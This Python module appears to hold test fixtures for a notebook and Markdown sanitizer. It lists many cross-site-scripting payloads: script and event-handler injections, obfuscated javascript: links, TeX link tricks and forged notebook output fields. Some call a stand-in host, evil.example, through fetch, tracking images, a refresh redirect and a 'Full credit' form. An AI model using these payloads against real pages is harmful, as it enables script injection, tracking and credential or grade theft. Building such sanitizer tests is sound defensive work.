"""What students may write to make a reader's browser do something, by name, and harmless things that look like it.

Each payload that runs calls `pwned`; each one that only loads something asks for an address at `evil.example`.
A new one is one more entry: the unit tests and the browser take all of them.
"""

import base64
import io

from nbformat.v4 import new_output
from PIL import Image

RUN = "pwned()"
EVIL = "https://evil.example"
SCRIPT = f"<script>{RUN}</script>"
FETCH = f"fetch('{EVIL}/fetched')"


def png(size=(2, 2), kind="PNG"):
    """A picture in base64."""
    content = io.BytesIO()
    Image.new("RGB", size, "green").save(content, kind)
    return base64.b64encode(content.getvalue()).decode()


PNG = png()
BASE64_SCRIPT = base64.b64encode(SCRIPT.encode()).decode()

ANSWERS = {
    "script": SCRIPT,
    "script in a sentence": f"before {SCRIPT} after",
    "script that is not closed": f"<script>{RUN}",
    "script in capitals": f"<ScRiPt >{RUN}</sCrIpT>",
    "script from elsewhere": f"<script src={EVIL}/a.js></script>",
    "image with a handler": f'<img src=x onerror="{RUN}">',
    "image with a slash": f"<img/src=x/onerror={RUN}>",
    "image over two lines": f"<img src=x\nonerror={RUN}\n>",
    "image that is not closed": f"<img src=x onerror={RUN}//",
    "svg with a handler": f"<svg onload={RUN}></svg>",
    "svg in a paragraph": f"x <svg><script>{RUN}</script></svg> y",
    "math with an address": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>',
    "details with a handler": f"<details open ontoggle={RUN}>x</details>",
    "body with a handler": f"<body onload={RUN}>",
    "input that takes the focus": f"<input autofocus onfocus={RUN}>",
    "frame": f'<iframe src="javascript:{RUN}"></iframe>',
    "frame with a document": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object": f'<object data="data:text/html;base64,{BASE64_SCRIPT}"></object>',
    "embed": f"<embed src={EVIL}/embedded>",
    "style": f"<style>body {{ background: url({EVIL}/style) }}</style>",
    "style attribute": f'<div style="position:fixed;inset:0;background:url({EVIL}/attribute)">x</div>',
    "style sheet": f'<link rel="stylesheet" href="{EVIL}/sheet">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    "base": f'<base href="{EVIL}/">',
    "form": f'<form action="{EVIL}/form"><button>Full credit</button></form>',
    "javascript link": f"[click](javascript:{RUN})",
    "javascript link in angle brackets": f"[click](<javascript:{RUN}>)",
    "javascript link in capitals": f"[click](JaVaScRiPt:{RUN})",
    "javascript link with an entity": f"[click](java&#115;cript:{RUN})",
    "javascript link with a named entity": f"[click](javascript&colon;{RUN})",
    "javascript link with a tab": f"[click](<java\tscript:{RUN}>)",
    "javascript link after a line break": f"[click](\njavascript:{RUN})",
    "javascript link by reference": f"[click][r]\n\n[r]: javascript:{RUN}",
    "javascript link by reference on two lines": f"[click][r]\n\n[r]:\n  javascript:{RUN}",
    "javascript autolink": f"<javascript:{RUN}>",
    "javascript image": f"![x](javascript:{RUN})",
    "vbscript link": "[click](vbscript:msgbox(1))",
    "data link": f"[click](data:text/html;base64,{BASE64_SCRIPT})",
    "link around a tag": f"[x<b>](javascript:{RUN})</b>",
    "title that breaks out": f'[x](http://a.b "t\\" onmouseover={RUN} x=\\"")',
    "address that breaks out": f'[x](http://a.b/"onmouseover="{RUN})',
    "alternative text that breaks out": f'![x" onerror="{RUN}](attachment:lost.png)',
    "picture from elsewhere": f"![x]({EVIL}/tracker.png)",
    "picture from elsewhere by reference": f"![x][r]\n\n[r]: {EVIL}/tracker2.png",
    "picture that is not attached": "![x](attachment:nothing.png)",
    "broken nesting": f"<div><p></div><b><i></b><img src=x onerror={RUN}></p>",
    "ends of tags that are not open": "</div></div></div></div></body>" + SCRIPT,
    "comment that is not closed": f"<!-- {SCRIPT}",
    "comment closed early": f"<!--> {SCRIPT} -->",
    "CDATA": f"<![CDATA[ > {SCRIPT} ]]>",
    "processing instruction": f"<?x > {SCRIPT} ?>",
    "noscript": f'<noscript><p title="</noscript>{SCRIPT}">',
    "in a table": f"| a | b |\n| --- | --- |\n| <img src=x onerror={RUN}> | {SCRIPT} |",
    "in a list": f"* <img src=x onerror={RUN}>\n  * {SCRIPT}",
    "in a quotation": f"> <img src=x onerror={RUN}>\n> {SCRIPT}",
    "in a heading": f"# <img src=x onerror={RUN}>",
    "code span over a block": f"`a\n<div><img src=x onerror={RUN}></div>\n`",
    "code span that is none": f"\\`{SCRIPT}\\`",
    "code span that ends early": f"`a` {SCRIPT} `b`",
    "code span in a tag": f'<a title="`"><img src=x onerror={RUN}>`',
    "fence that is not closed": f"```\na\n```\n{SCRIPT}\n```",
    "fence with a language": f"```<img src=x onerror={RUN}>\nx\n```",
    "Mermaid diagram": f"```mermaid\n<img src=x onerror={RUN}>\n```",
    "indentation that is no code": f"text\n    <img src=x onerror={RUN}>",
    "formula that is none": f"\\$ {SCRIPT} \\$",
    "formula over a block": f"$a\n\n<img src=x onerror={RUN}>\n\nb$",
    "TeX link": rf"$\href{{javascript:{RUN}}}{{x}}$",
    "TeX link in a display": rf"$$\href{{javascript:{RUN}}}{{x}}$$",
    "TeX link behind references": rf"&#36;&#92;href{{javascript:{RUN}}}{{x}}&dollar;",
    "TeX style": rf"$\style{{position:fixed;background:url({EVIL}/tex)}}{{x}} \cssId{{notebook}}{{y}}$",
    "TeX characters": r"$\unicode[myfont,x]{60}script\unicode{62}$",
    "zero byte in a tag": f"<scr\0ipt>{RUN}</script>",
    "deep nesting": ">" * 3000 + SCRIPT,
    "many brackets": "[" * 3000 + f"x](javascript:{RUN})",
    "a large text": "x " * 40_000 + SCRIPT,
}


def shown(**data):
    return new_output("display_data", {name.replace("__", "/"): content for name, content in data.items()})


def html(text):
    return shown(text__html=text)


OUTPUTS = {
    "html: script": html(SCRIPT),
    "html: image": html(f"<img src=x onerror={RUN}>"),
    "html: svg": html(f"<svg><animate onbegin={RUN} attributeName=x></svg>"),
    "html: link": html(f'<a href=" java\nscript:{RUN}">x</a>'),
    "html: data image that is none": html(f'<img src="data:image/svg+xml;base64,{BASE64_SCRIPT}">'),
    "html: picture from elsewhere": html(f"<img src={EVIL}/html.png srcset={EVIL}/set.png>"),
    "html: style": html(f"<style>* {{ background: url({EVIL}/css) }}</style><p style='background:url({EVIL}/p)'>x"),
    "html: buttons of the page": html('<button class="full-credit">x</button><input class="score" id="double">'),
    "html: mutation": html(f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">'),
    "html: isolated": new_output(
        "display_data", {"text/html": f"<script>parent.{RUN}</script>"}, metadata={"text/html": {"isolated": True}}
    ),
    "html: TeX": html(rf"$\href{{javascript:{RUN}}}{{x}}$ &#36;&#92;href{{javascript:{RUN}}}{{x}}&#36;"),
    "html: frame": html(f"<iframe src={EVIL}/frame></iframe>"),
    "javascript": new_output("display_data", {"application/javascript": RUN}),
    "javascript with text": new_output("display_data", {"application/javascript": FETCH, "text/plain": "a chart"}),
    "markdown": shown(text__markdown=f"{SCRIPT} [x](javascript:{RUN})"),
    "latex": shown(text__latex=rf"$\href{{javascript:{RUN}}}{{x}}$ <img src=x onerror={RUN}>"),
    "svg": new_output("display_data", {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>"}),
    "svg that is none": new_output("display_data", {"image/svg+xml": f"<img src=x onerror={RUN}>"}),
    "widget": new_output(
        "display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{SCRIPT}"}}
    ),
    "png that is not base64": shown(image__png=f'"><img src=x onerror={RUN}>'),
    "png that is no picture": shown(image__png=BASE64_SCRIPT),
    "jpeg that is a png": shown(image__jpeg=PNG),
    "png with a forged width": new_output(
        "display_data", {"image/png": PNG}, metadata={"image/png": {"width": f"1 onload={RUN}"}}
    ),
    "png in a file elsewhere": new_output(
        "display_data", {"image/png": PNG}, metadata={"filenames": {"image/png": f"{EVIL}/name.png"}}
    ),
    "MIME type with quotes": new_output("display_data", {f'image/png"onerror="{RUN}': PNG, "a\n<b>": "x"}),
    "pdf": new_output("display_data", {"application/pdf": BASE64_SCRIPT}),
    "mermaid": new_output("display_data", {"text/vnd.mermaid": f"<img src=x onerror={RUN}>"}),
    "stream": new_output(
        "stream", text=f"{SCRIPT}\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;{EVIL}\x1b\\link\x1b]8;;\x07"
    ),
    "stream with a forged name": {"output_type": "stream", "name": f'"><img src=x onerror={RUN}>', "text": "x"},
    "error": new_output(
        "error",
        ename=SCRIPT,
        evalue=f"<img src=x onerror={RUN}>",
        traceback=[f"\x1b[31m{SCRIPT}", "\x1b]52;c;eA==\x07"],
    ),
    "plain text": shown(text__plain=f"{SCRIPT}\x1b[2J\x9b31m"),
    "not in the format": {"output_type": "script", "text": SCRIPT},
    "nothing": {},
    "not even an output": SCRIPT,
}

ATTACHMENTS = {
    "name that breaks out": {f'x" onerror="{RUN}.png': {"image/png": PNG}},
    "type that breaks out": {"type.png": {f'image/png" onerror="{RUN}': PNG}},
    "page": {"page.png": {"text/html": BASE64_SCRIPT}},
    "svg": {"svg.png": {"image/svg+xml": BASE64_SCRIPT}},
    "no base64": {"data.png": {"image/png": f'" onerror="{RUN}'}},
}

# Markdown that has to come out as it is, and what a reader sees of it.
HARMLESS = {
    "a sentence": ("It is *because* of __that__.", "It is because of that."),
    "comparison": ("Here 3 < 4 and 5 > 4 & so on.", "3 < 4 and 5 > 4 & so on"),
    "formula": (r"Then $x_i \in \mathbb{R}^n$ holds.", r"$x_i \in \mathbb{R}^n$"),
    "formula with signs": (r"$a<b$, $a_1 & b_2$ and $c<d>e$", "$a<b$, $a_1 & b_2$ and $c<d>e$"),
    "display": ("$$\n\\sum_{i<n} x_i \\\\ y &= 2 \\le z\n$$", "\\sum_{i<n} x_i \\\\ y &= 2 \\le z"),
    "environment": ("\\begin{align}a &< b \\\\ c &= d\\end{align}", "a &< b \\\\ c &= d"),
    "matrix": (r"$\begin{pmatrix} a & b \\ c & d \end{pmatrix}$", r"a & b \\ c & d"),
    "macros that begin alike": (r"$\hrefs \styles \urls \unicodes$", r"\hrefs \styles \urls \unicodes"),
    "code": ("Use `np.sum(x, axis=0)`.", "np.sum(x, axis=0)"),
    "code with a tag": ("`<script>alert(1)</script>` is text.", "<script>alert(1)</script> is text."),
    "code with a macro": (r"`\href{x}{y}` and `&#36;`", r"\href{x}{y} and &#36;"),
    "code with a link": ("`[x](javascript:1)`", "[x](javascript:1)"),
    "fenced code": ("```python\nif a <b and c: print('<div>')\n```", "print('<div>')"),
    "fenced code of no language": ("~~~\n<img src=x>\n~~~", "<img src=x>"),
    "indented code": ("So:\n\n    x: List<int> = <T>[]\n\nAnd.", "x: List<int> = <T>[]"),
    "table": ("| a | b |\n| --- | --- |\n| `<x>` | $a<b$ |", "<x>"),
    "list": ("1. one\n2. two\n   * three `<c>`", "three <c>"),
    "quotation": ("> it says `<c>`", "it says <c>"),
    "heading": ("## Why $a<b$", "Why $a<b$"),
    "picture": ("![a plot](attachment:plot.png)", ""),
    "picture by reference": ("![a plot][p]\n\n[p]: attachment:plot.png", ""),
    "link": ("[paper](https://example.org/a_(b)?c=d&e=f 'title')", "paper"),
    "link by reference": ("[paper][1]\n\n[1]: http://example.org", "paper"),
    "autolink": ("See <https://example.org/a?b=c>.", "https://example.org/a?b=c"),
    "plain address": ("See https://example.org/a.", "https://example.org/a"),
    "mail": ("[me](mailto:me@example.org)", "me"),
    "link inside the page": ("[above](#top)", "above"),
    "indexing that looks like a link": ("x[0](1) is `f[i](<t>)`", "f[i](<t>)"),
    "line break": ("one<br>two<br/>three", "one"),
    "simple tags": ("H<sub>2</sub>O, x<sup>2</sup>, <b>bold</b> and <kbd>Enter</kbd>", "bold and Enter"),
    "tag as text": ("&lt;script&gt; is a tag", "<script> is a tag"),
    "references": ("&alpha; &rarr; &nbsp; &#8712; &mdash;", "α →"),
    "escapes": (r"\*no emphasis\* and 5\$ or \_this\_", "*no emphasis* and 5$ or _this_"),
    "other scripts": ("Größe, 梯度, градиент, 🙂", "Größe, 梯度, градиент, 🙂"),
    "strikethrough": ("~~old~~ new", "old new"),
    "word javascript": ("In javascript: it is data: the same.", "In javascript: it is data: the same."),
    "footnote-like": ("As said[1]. [1]: it is so", "it is so"),
    "dollars": ("It costs $5 and <$10.", "$5 and <$10"),
}
